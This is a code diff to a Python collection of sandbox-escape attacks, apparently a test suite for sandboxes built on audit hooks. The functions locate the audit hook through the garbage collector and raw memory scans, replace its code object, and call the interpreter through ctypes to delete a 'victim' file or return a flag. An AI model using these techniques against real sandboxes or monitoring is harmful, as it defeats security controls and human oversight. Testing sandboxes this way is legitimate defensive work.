@@ -223,12 +223,15 @@ def find_the_hook_among_all_objects(at):
     def same_cells(*given):
         return free
 
+    def no_cells(*given):
+        return None
+
     for found in gc.get_objects():
         if isinstance(found, types.FunctionType) and found.__name__ == "hook" and len(found.__code__.co_varnames) > 1:
             for cell in found.__closure__ or ():
                 cell.cell_contents = set()
             found.__defaults__ = None
-            found.__code__ = same_cells.__code__
+            found.__code__ = (same_cells if found.__closure__ else no_cells).__code__
     os.remove(at["victim"])
 
 
@@ -329,14 +332,6 @@ def call_python_s_own_machine(at):
     import ctypes
 
     ctypes.pythonapi.PyRun_SimpleString(f"import os; os.remove({at['victim']!r})".encode())
-
-
-@attack()
-def load_a_library_of_its_own(at):
-    import _ctypes
-
-    _ctypes.dlopen(None, 2)
-    return at["flag"]
 
 
 @attack()
@@ -511,7 +506,7 @@ def {name}(at):
     pools = {{id(value) & ~0x3FFF for value in known if isinstance(value, types.FunctionType)}}
     for pool in pools:
         for i, word in enumerate(peek(pool, 2048)):
-            if word == id(types.FunctionType) and i:
+            if word == id(types.FunctionType) and i and 0 < peek(pool + 8 * i - 8, 1)[0] < 10**6:
                 found = function_at(pool + 8 * i - 8)
                 if found.__code__.co_varnames[:2] == ("event", "args"):
                     found.__code__ = disarm(len(found.__code__.co_freevars)).__code__
